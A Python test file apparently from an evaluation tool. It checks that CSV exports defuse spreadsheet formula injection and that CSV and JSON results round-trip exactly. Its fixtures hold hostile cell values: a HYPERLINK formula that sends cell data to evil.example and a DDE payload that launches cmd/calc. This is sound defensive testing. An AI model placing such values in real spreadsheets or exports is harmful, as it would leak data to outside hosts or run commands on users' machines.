"""Files: the CSV results are safe to open in a spreadsheet and still read back exactly."""

from __future__ import annotations

import csv
from dataclasses import replace
import io
import json
from pathlib import Path

from syncnet_eval.io import csv_text, load_results, write_results

from conftest import scored_result

# Cells a spreadsheet would run as formulas (OWASP "CSV injection").
_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
_PATH = "@SUM(1+1)*cmd|' /C calc'!A0.mp4"
_GROUP = "+cmd"
_TAB = "\tstarts with a tab"


def _hostile() -> object:
    r = scored_result(_PATH, offset=-3)
    track = replace(r.tracks[0], measures={"drift_ms_per_min": -12.5})
    return replace(
        r, id=_ID, group=_GROUP, warnings=["-cmd warned", _TAB], tracks=[track], av_offset_ms=-120.0
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    r = _hostile()
    for per_track in (False, True):
        rows = list(csv.DictReader(io.StringIO(csv_text([r], per_track=per_track))))
        row = rows[0]
        assert row["id"] == "'" + _ID and row["path"] == "'" + _PATH
        assert row["group"] == "'" + _GROUP
        assert row["warnings"].startswith("'-cmd warned")
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") or cell == "", cell
        # numbers stay numbers (negative ones are not text to neutralise)
        assert row["av_offset"] == "-3" and row["av_offset_ms"] == "-120.0"
        assert row["drift_ms_per_min"] == "-12.500"
        if per_track:
            assert row["track_av_offset"] == "-3" and row["track_drift_ms_per_min"] == "-12.500"


def test_csv_round_trip_keeps_the_text_and_json_stays_exact(tmp_path: Path) -> None:
    r = _hostile()
    quoted = replace(r, id="'already quoted")  # a leading quote of its own survives too
    for per_track in (False, True):
        out = tmp_path / f"r{int(per_track)}.csv"
        write_results(out, [r, quoted], per_track=per_track)
        back = load_results(out)
        assert [b.id for b in back] == [_ID, "'already quoted"]
        assert back[0].path == _PATH and back[0].group == _GROUP
        assert back[0].warnings == ["-cmd warned", _TAB]
        assert back[0].av_offset == -3 and back[0].av_offset_ms == -120.0
    doc = tmp_path / "r.json"
    write_results(doc, [r])
    rec = json.loads(doc.read_text(encoding="utf-8"))["results"][0]
    assert rec["id"] == _ID and rec["path"] == _PATH and rec["group"] == _GROUP
